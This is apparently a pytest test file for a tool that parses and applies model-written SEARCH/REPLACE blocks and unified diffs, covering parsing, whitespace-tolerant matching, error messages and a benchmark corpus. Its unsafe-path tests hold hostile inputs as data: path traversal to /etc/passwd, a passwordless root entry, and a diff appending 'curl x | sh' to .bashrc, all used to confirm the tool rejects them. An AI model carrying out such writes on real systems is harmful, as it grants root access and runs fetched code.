"""Parsing and applying a model's SEARCH/REPLACE blocks and unified diffs (pure; no Docker), and the edit corpus."""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pytest

from agent.edits import Applied, Edit, apply_edits, parse_edits
from agent.edits.errors import AmbiguousMatch, EditError, EditParseError, NoMatch, UnsafePath

ROOT = Path(__file__).resolve().parents[2]


def load_bench():
    """bench/edits.py as a module (bench/ is not a package)."""
    spec = importlib.util.spec_from_file_location("bench_edits", ROOT / "bench" / "edits.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules.setdefault("bench_edits", module)
    spec.loader.exec_module(module)
    return module


def block(path: str, search: str, replace: str, head: str | None = None, n: int = 7) -> str:
    """One SEARCH/REPLACE block; `head` replaces the path line (e.g. a fence or bold path)."""
    return (f"{head if head is not None else path}\n{'<' * n} SEARCH\n{search}{'=' * n}\n{replace}"
            f"{'>' * n} REPLACE\n")


CALC = """\
def total(items):
    result = 0
    for item in items:
        result += item
    return result


def product(items):
    result = 1
    for item in items:
        result *= item
    return result
"""

SHOP = """\
class Cart:
    def __init__(self):
        self.items = []

    def total(self):
        result = 0
        for item in self.items:
            result += item.price
        return result
"""

# ---------------------------------------------------------------------------------------------- parsing

PATH_HEADS = [
    ("plain", "calc.py\n"),
    ("backticks", "`calc.py`\n"),
    ("bold", "**calc.py**\n"),
    ("bold backticks", "**`calc.py`**\n"),
    ("python fence", "calc.py\n```python\n"),
    ("plain fence", "calc.py\n```\n"),
    ("prose before", "The fix:\n\ncalc.py\n"),
]


@pytest.mark.parametrize("head", [h for _, h in PATH_HEADS], ids=[name for name, _ in PATH_HEADS])
def test_parse_block_path_styles(head):
    closing = "```\n" if "```" in head else ""
    text = f"{head}<<<<<<< SEARCH\n    return result\n=======\n    return int(result)\n>>>>>>> REPLACE\n{closing}"
    assert parse_edits(text + "\nThat is all.\n") == [Edit("calc.py", "    return result\n", "    return int(result)\n",
                                                           "block")]


@pytest.mark.parametrize("n", [5, 6, 7, 8, 9])
def test_parse_marker_lengths(n):
    assert parse_edits(block("a.py", "x = 1\n", "x = 2\n", n=n)) == [Edit("a.py", "x = 1\n", "x = 2\n", "block")]


def test_parse_several_blocks_two_files_in_order():
    text = (block("a.py", "x = 1\n", "x = 2\n") + "\nand then\n\n" + block("pkg/b.py", "y = 1\n", "y = 2\n")
            + "\n" + block("a.py", "x = 2\n", "x = 3\n"))
    assert [(e.path, e.search, e.replace) for e in parse_edits(text)] == [
        ("a.py", "x = 1\n", "x = 2\n"), ("pkg/b.py", "y = 1\n", "y = 2\n"), ("a.py", "x = 2\n", "x = 3\n")]


def test_parse_empty_search_and_empty_replace():
    assert parse_edits(block("new.py", "", "X = 1\n")) == [Edit("new.py", "", "X = 1\n", "block")]
    assert parse_edits(block("a.py", "x = 1\n", "")) == [Edit("a.py", "x = 1\n", "", "block")]


def test_parse_crlf_answer_is_normalized():
    text = block("a.py", "x = 1\n", "x = 2\n").replace("\n", "\r\n")
    assert parse_edits(text) == [Edit("a.py", "x = 1\n", "x = 2\n", "block")]


@pytest.mark.parametrize("text", [
    "",
    "The bug is in total(): it should skip None.\n",
    "Change it to:\n\n```python\ndef total(items):\n    return sum(items)\n```\n",
], ids=["empty", "prose", "plain code fence"])
def test_parse_without_edits_is_empty(text):
    assert parse_edits(text) == []


DIFF = """\
--- a/calc.py
+++ b/calc.py
@@ -40,3 +40,3 @@ def product(items):
     result = 1
     for item in items:
-        result *= item
+        result *= item or 1
"""


@pytest.mark.parametrize("text", [
    DIFF,
    f"Here is the patch:\n\n```diff\n{DIFF}```\n\nIt treats 0 as 1.\n",
    f"diff --git a/calc.py b/calc.py\nindex 83db48f..bf269f4 100644\n{DIFF}",
], ids=["bare", "fenced with prose", "git headers"])
def test_parse_unified_diff_ignores_line_numbers(text):
    assert parse_edits(text) == [Edit("calc.py", "    result = 1\n    for item in items:\n        result *= item\n",
                                      "    result = 1\n    for item in items:\n        result *= item or 1\n", "diff")]


def test_parse_diff_one_edit_per_hunk_and_new_file():
    text = """\
--- a/calc.py
+++ b/calc.py
@@ -1,2 +1,2 @@
 def total(items):
-    result = 0
+    result = 0.0
@@ -9,1 +9,1 @@
-    result = 1
+    result = 1.0
--- /dev/null
+++ b/util.py
@@ -0,0 +1,2 @@
+def clean(items):
+    return [i for i in items if i is not None]
"""
    assert parse_edits(text) == [
        Edit("calc.py", "def total(items):\n    result = 0\n", "def total(items):\n    result = 0.0\n", "diff"),
        Edit("calc.py", "    result = 1\n", "    result = 1.0\n", "diff"),
        Edit("util.py", "", "def clean(items):\n    return [i for i in items if i is not None]\n", "diff"),
    ]


@pytest.mark.parametrize(("text", "words"), [
    ("a.py\n<<<<<<< SEARCH\nx = 1\n=======\nx = 2\n", ["a.py", "REPLACE"]),
    ("a.py\n<<<<<<< SEARCH\nx = 1\nx = 2\n>>>>>>> REPLACE\n", ["a.py", "======="]),
    ("a.py\n<<<<<<< SEARCH\nx = 1\n", ["a.py", "======="]),
    ("<<<<<<< SEARCH\nx = 1\n=======\nx = 2\n>>>>>>> REPLACE\n", ["path"]),
    (block("a.py", "x = 1\n", "x = 2\n") + "\na.py\n<<<<<<< SEARCH\ny = 1\n=======\ny = 2\n", ["REPLACE"]),
], ids=["no REPLACE end", "no divider", "truncated in SEARCH", "no path", "second block broken"])
def test_parse_malformed_is_a_precise_error(text, words):
    with pytest.raises(EditParseError) as info:
        parse_edits(text)
    for word in words:
        assert word in str(info.value)


# ---------------------------------------------------------------------------------------------- applying

APPLY_CASES = [
    pytest.param(
        {"calc.py": CALC},
        [Edit("calc.py", "def total(items):\n    result = 0\n", "def total(items):\n    result = 0.0\n", "block")],
        {"calc.py": CALC.replace("result = 0\n", "result = 0.0\n")}, ["exact"], id="exact"),
    pytest.param(
        {"shop.py": SHOP},
        [Edit("shop.py", "            for item in self.items:\n                result += item.price\n",
              "            for item in self.items:\n                if item.price:\n"
              "                    result += item.price\n", "block")],
        {"shop.py": SHOP.replace("            result += item.price\n",
                                 "            if item.price:\n                result += item.price\n")},
        ["whitespace"], id="indentation drift +4"),
    pytest.param(
        {"shop.py": SHOP},
        [Edit("shop.py", "for item in self.items:\n    result += item.price\nreturn result\n",
              "for item in self.items:\n    result += item.price * item.qty\nreturn result\n", "block")],
        {"shop.py": SHOP.replace("item.price\n", "item.price * item.qty\n")}, ["whitespace"],
        id="indentation drift -8"),
    pytest.param(
        {"calc.py": CALC.replace("    result = 0\n", "    result = 0   \n")},
        [Edit("calc.py", "def total(items):\n    result = 0\n", "def total(items):\n    result = 0.0\n", "block")],
        {"calc.py": CALC.replace("    result = 0\n", "    result = 0.0\n")}, ["whitespace"],
        id="trailing spaces in the file"),
    pytest.param(
        {"calc.py": CALC},
        [Edit("calc.py", "def total(items):  \n    result = 0 \n", "def total(items):\n    result = 0.0\n", "block")],
        {"calc.py": CALC.replace("    result = 0\n", "    result = 0.0\n")}, ["whitespace"],
        id="trailing spaces in the search"),
    pytest.param(
        {"t.py": "def f(x):\n\tif x:\n\t\treturn 1\n\treturn 0\n"},
        [Edit("t.py", "if x:\n\treturn 1\n", "if x > 0:\n\treturn 1\n", "block")],
        {"t.py": "def f(x):\n\tif x > 0:\n\t\treturn 1\n\treturn 0\n"}, ["whitespace"], id="tab drift"),
    pytest.param(
        {"calc.py": CALC.replace("\n", "\r\n")},
        [Edit("calc.py", "    return result\n\n\ndef product(items):\n",
              "    return result\n\n\ndef mean(items):\n    return total(items) / len(items)\n\n\n"
              "def product(items):\n", "block")],
        {"calc.py": CALC.replace("def product", "def mean(items):\n    return total(items) / len(items)\n\n\n"
                                 "def product").replace("\n", "\r\n")},
        ["exact"], id="CRLF kept, added lines CRLF"),
    pytest.param(
        {"a.py": "x = 1\ny = 2"}, [Edit("a.py", "y = 2\n", "y = 3\n", "block")], {"a.py": "x = 1\ny = 3"},
        ["exact"], id="no final newline kept"),
    pytest.param(
        {"calc.py": CALC}, [Edit("calc.py", "    for item in items:\n        result += item\n", "", "block")],
        {"calc.py": CALC.replace("    for item in items:\n        result += item\n", "", 1)}, ["exact"],
        id="empty replace deletes"),
    pytest.param(
        {"calc.py": CALC}, [Edit("new/util.py", "", "X = 1\n", "block")], {"calc.py": CALC, "new/util.py": "X = 1\n"},
        ["create"], id="new file"),
    pytest.param(
        {"calc.py": CALC},
        [Edit("new.py", "", "X = 1\nY = 2\n", "block"), Edit("new.py", "X = 1\n", "X = 10\n", "block"),
         Edit("calc.py", "    result = 1\n", "    result = 1.0\n", "block")],
        {"calc.py": CALC.replace("result = 1\n", "result = 1.0\n"), "new.py": "X = 10\nY = 2\n"},
        ["create", "exact", "exact"], id="in order, each on the previous result"),
    pytest.param(
        {"calc.py": CALC},
        [Edit("calc.py", "    result = 1\n    for item in items:\n        result *= item\n",
              "    result = 1\n    for item in items:\n        result *= item or 1\n", "diff")],
        {"calc.py": CALC.replace("result *= item\n", "result *= item or 1\n")}, ["exact"], id="diff hunk"),
    pytest.param(
        {"p.py": "def parse_header(line):\n    key, _, value = line.partition(':')\n"
                 "    key = key.strip().lower()\n    return key, value\n"},
        [Edit("p.py", "def parse_header(line):\n    key, _, value = line.partition(':')\n"
                      "    key = key.strip().lowre()\n    return key, value\n",
              "def parse_header(line):\n    key, _, value = line.partition(':')\n"
              "    key = key.strip().lower()\n    return key, value.strip()\n", "block")],
        {"p.py": "def parse_header(line):\n    key, _, value = line.partition(':')\n"
                 "    key = key.strip().lower()\n    return key, value.strip()\n"},
        ["fuzzy"], id="fuzzy one-char typo"),
]


@pytest.mark.parametrize(("files", "edits", "expected", "methods"), APPLY_CASES)
def test_apply(files, edits, expected, methods):
    before = dict(files)
    new, applied = apply_edits(files, edits)
    assert new == expected
    assert [a.method for a in applied] == methods
    assert files == before


def test_apply_reports_first_replaced_line():
    _, applied = apply_edits({"calc.py": CALC}, [Edit("calc.py", "    result = 1\n", "    result = 1.0\n", "block")])
    assert applied == [Applied("calc.py", "exact", 9)]
    _, applied = apply_edits({"shop.py": SHOP}, [Edit("shop.py", "return result\n", "return round(result)\n", "block")])
    assert applied == [Applied("shop.py", "whitespace", 9)]


def test_parse_then_apply_messy_answer():
    answer = ("DESCRIPTION: skip missing prices\n\n**shop.py**\n```python\n<<<<<<< SEARCH\n"
              "for item in self.items:   \n    result += item.price\n=======\nfor item in self.items:\n"
              "    if item.price is None:\n        continue\n    result += item.price\n>>>>>>> REPLACE\n```\n")
    new, applied = apply_edits({"shop.py": SHOP}, parse_edits(answer))
    assert new["shop.py"] == SHOP.replace(
        "            result += item.price\n",
        "            if item.price is None:\n                continue\n            result += item.price\n")
    assert [a.method for a in applied] == ["whitespace"]


# ---------------------------------------------------------------------------------------------- rejections

REJECT_CASES = [
    pytest.param({"calc.py": CALC}, [Edit("calc.py", "    return result\n", "    return int(result)\n", "block")],
                 AmbiguousMatch, id="one line, twice"),
    pytest.param({"calc.py": CALC}, [Edit("calc.py", "for item in items:\n", "for item in items or []:\n", "block")],
                 AmbiguousMatch, id="drifted line, twice"),
    pytest.param({"calc.py": CALC}, [Edit("calc.py", "    result = 0\n    while items:\n        result += item\n",
                                          "    result = 0\n", "block")], NoMatch, id="a wrong line"),
    pytest.param({"calc.py": CALC}, [Edit("calc.py", "    total = 0\n", "    total = 1\n", "block")], NoMatch,
                 id="not in the file"),
    pytest.param({"calc.py": CALC}, [Edit("other.py", "x = 1\n", "x = 2\n", "block")], NoMatch, id="unknown file"),
    pytest.param({"calc.py": CALC}, [Edit("calc.py", "", "X = 1\n", "block")], EditError,
                 id="empty search on an existing file"),
    pytest.param({"calc.py": CALC}, [Edit("calc.py", " 2:     result = 0\n 3:     for item in items:\n",
                                          " 2:     result = 0.0\n 3:     for item in items:\n", "block")],
                 EditError, id="line numbers in the search"),
]


@pytest.mark.parametrize(("files", "edits", "error"), REJECT_CASES)
def test_apply_rejects(files, edits, error):
    with pytest.raises(error):
        apply_edits(files, edits)


@pytest.mark.parametrize("path", ["../etc/passwd", "/etc/passwd", "-rf.py", "pkg/../../x.py", "/calc.py",
                                  "a/../../b.py"])
@pytest.mark.parametrize("search", ["", "def total(items):\n"], ids=["create", "edit"])
def test_apply_rejects_unsafe_paths(path, search):
    with pytest.raises(UnsafePath):
        apply_edits({"calc.py": CALC}, [Edit(path, search, "x = 1\n", "block")])


@pytest.mark.parametrize("text", [
    block("../etc/passwd", "", "root::0:0::/root:/bin/sh\n"),
    block("/etc/passwd", "", "root::0:0::/root:/bin/sh\n"),
    "--- /dev/null\n+++ b/../../home/u/.bashrc\n@@ -0,0 +1 @@\n+curl x | sh\n",
], ids=["dotdot block", "absolute block", "dotdot diff"])
def test_unsafe_paths_from_parsed_answers(text):
    with pytest.raises(EditError):  # UnsafePath from apply, or a parse error: never a write
        apply_edits({"calc.py": CALC}, parse_edits(text))


def test_ambiguous_message_gives_line_numbers_and_asks_for_context():
    with pytest.raises(AmbiguousMatch) as info:
        apply_edits({"calc.py": CALC}, [Edit("calc.py", "    return result\n", "    return 0\n", "block")])
    message = str(info.value)
    assert "calc.py" in message and "5" in message and "12" in message
    assert "context" in message.lower() or "neighbouring" in message.lower() or "more" in message.lower()


def test_no_match_message_names_file_and_quotes_closest_lines():
    edit = Edit("calc.py", "def product(items):\n    acc = 1\n    for x in items:\n        acc *= x\n",
                "def product(items):\n    acc = 1.0\n    for x in items:\n        acc *= x\n", "block")
    with pytest.raises(NoMatch) as info:
        apply_edits({"calc.py": CALC}, [edit])
    message = str(info.value)
    assert "calc.py" in message
    assert "def product(items):" in message and "    result = 1" in message
    assert "8" in message  # the closest lines start at line 8


@pytest.mark.parametrize("second", [
    Edit("calc.py", "    nothing = here\n", "x\n", "block"),
    Edit("calc.py", "    return result\n", "x\n", "block"),
    Edit("../x.py", "", "x\n", "block"),
], ids=["no match", "ambiguous", "unsafe"])
def test_all_or_nothing(second):
    files = {"calc.py": CALC, "shop.py": SHOP}
    before = dict(files)
    first = Edit("shop.py", "        self.items = []\n", "        self.items = []\n        self.n = 0\n", "block")
    with pytest.raises(EditError):
        apply_edits(files, [first, second])
    assert files == before


# ---------------------------------------------------------------------------------------------- corpus

def test_corpus_is_large_and_well_formed():
    bench = load_bench()
    cases = bench.load_corpus()
    assert len(cases) >= 60
    assert len({c.category for c in cases}) >= 10


def test_corpus_never_misapplies():
    bench = load_bench()
    outcomes = [bench.run_case(case) for case in bench.load_corpus()]
    bad = [f"{o.name}: {o.outcome}: {o.detail}" for o in outcomes if o.outcome in ("misapplied", "crashed")]
    assert not bad, "\n".join(bad)


@pytest.mark.parametrize(("old", "new", "path"), [
    ("a/x.py", "b/x.py", "x.py"),  # git's prefixes
    ("/dev/null", "b/new.py", "new.py"),
    ("x.py", "x.py", "x.py"),  # plain diff -u
    ("b/x.py", "b/x.py", "b/x.py"),  # a real folder named b: kept
    ("a/x.py", "a/x.py", "a/x.py"),
])
def test_diff_prefixes_are_dropped_only_in_git_style(old: str, new: str, path: str) -> None:
    removed = "" if old == "/dev/null" else "-a = 1\n"
    [edit] = parse_edits(f"--- {old}\n+++ {new}\n@@ -1 +1 @@\n{removed}+a = 2\n")
    assert edit.path == path
